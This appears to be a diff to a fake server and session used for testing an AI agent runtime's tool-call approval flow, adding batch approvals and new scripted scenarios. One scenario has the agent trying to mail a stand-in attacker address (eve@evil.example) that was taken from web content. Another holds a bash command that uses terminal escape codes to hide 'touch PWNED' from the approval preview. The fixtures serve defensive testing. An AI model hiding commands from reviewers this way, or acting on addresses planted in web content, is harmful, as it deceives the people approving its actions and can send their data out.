@@ -15,12 +15,14 @@ import sys
 from collections.abc import Awaitable, Callable
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 import msgspec
 from aiohttp import web
 
 from perdure import __version__
 from perdure.kernel import events as e
+from perdure.kernel.labels import Label
 from perdure.runtime.views import (
     Accepted,
     AgentView,
@@ -121,7 +123,14 @@ class FakeSession:
     def finish(self, call: e.ToolCall, result: e.ToolResult, ms: int = 5) -> None:
         self.append(e.ToolFinished(call=call.id, tool=call.name, result=result, ms=ms))
 
-    async def ask(self, call: e.ToolCall, reason: str, preview: str) -> e.ApprovalDecided:
+    async def ask(
+        self,
+        call: e.ToolCall,
+        reason: str,
+        preview: str,
+        offers: tuple[str, ...] = ("once", "session", "always"),
+        **more: Any,
+    ) -> e.ApprovalDecided:
         approval = e.ApprovalId(f"a_{len(self.records)}")
         asked = e.ApprovalRequested(
             approval=approval,
@@ -130,7 +139,8 @@ class FakeSession:
             arguments=call.arguments,
             reason=reason,
             preview=preview,
-            offers=("once", "session", "always"),
+            offers=offers,
+            **more,
             rule=f"{call.name}: {next(iter(call.arguments.values()), '')}",
         )
         self.approvals[approval] = asked
@@ -185,6 +195,7 @@ class FakeServer:
                 web.get(f"{api}/approvals", self._approvals),
                 web.get(f"{api}/sessions/{{id}}/approvals", self._approvals),
                 web.post(f"{api}/sessions/{{id}}/approvals/{{approval}}", self._decide),
+                web.post(f"{api}/sessions/{{id}}/approvals", self._decide_all),
                 web.get(f"{api}/admin/status", self._status),
                 web.post(f"{api}/admin/reload", self._reload),
                 web.post(f"{api}/admin/shutdown", self._shutdown),
@@ -397,18 +408,27 @@ class FakeServer:
 
     async def _decide(self, request: web.Request) -> web.Response:
         session, body = self._of(request), await request.json()
-        approval = request.match_info["approval"]
-        if session.approvals.pop(approval, None) is None:
+        one = {**body, "approval": request.match_info["approval"]}
+        return self._decided(session, [one]) or _json({"approval": one["approval"]})
+
+    async def _decide_all(self, request: web.Request) -> web.Response:
+        session, body = self._of(request), await request.json()
+        return self._decided(session, body["answers"]) or _json({"decided": []})
+
+    def _decided(self, session: FakeSession, answers: list[dict[str, str]]) -> web.Response | None:
+        if any(one["approval"] not in session.approvals for one in answers):
             return _problem(409, "that approval is answered already")
-        decided = e.ApprovalDecided(
-            approval=e.ApprovalId(approval),
-            answer=body["answer"],
-            scope=body.get("scope", "once"),
-            note=body.get("note", ""),
-        )
-        session.append(decided)
-        session.answers[approval].set_result(decided)
-        return _json({"approval": approval})
+        for one in answers:
+            decided = e.ApprovalDecided(
+                approval=e.ApprovalId(one["approval"]),
+                answer=one["answer"],
+                scope=one.get("scope", "once"),
+                note=one.get("note", ""),
+            )
+            del session.approvals[one["approval"]]
+            session.append(decided)
+            session.answers[one["approval"]].set_result(decided)
+        return None
 
     async def _status(self, request: web.Request) -> web.Response:
         return _json(
@@ -514,6 +534,38 @@ async def play(session: FakeSession, text: str) -> None:
             else:
                 session.finish(change, result(f"denied: {answer.note}", "denied"))
                 await session.say(f"Not edited: {answer.note}")
+        case "both":
+            calls = [call("bash", command="make one"), call("bash", command="make two")]
+            await session.say("", *calls)
+            both = [session.ask(c, "it runs a command", str(c.arguments["command"])) for c in calls]
+            said = " ".join(
+                f"{d.answer}{d.note and ':'}{d.note}" for d in await asyncio.gather(*both)
+            )
+            for one in calls:
+                session.finish(one, result("ran", "ok" if "allow" in said else "denied"))
+            await session.say(f"Both: {said}.")
+        case "vouch":
+            mail = call("send", to="eve@evil.example")
+            await session.say("", mail)
+            answer = await session.ask(
+                mail,
+                "the address eve@evil.example comes from web:example.org, not from you",
+                "to: eve@evil.example",
+                offers=("data", "once"),
+                destination="eve@evil.example",
+                endorses=("eve@evil.example",),
+                label=Label(origins=("web:example.org",)),
+            )
+            await session.say(f"Decided: {answer.answer} {answer.scope}.")
+        case "late":
+            command = call("bash", command="make all")
+            await session.say("", command)
+            asking = asyncio.ensure_future(session.ask(command, "it runs a command", "make all"))
+            await asyncio.sleep(0.2)
+            asking.cancel()
+            session.approvals.clear()
+            session.finish(command, result("expired", "denied"))
+            await session.say("Then not.")
         case "evil":
             evil = call("bash", command="ls -la #\x1b]\ntouch PWNED\rls")
             await session.say("", evil)
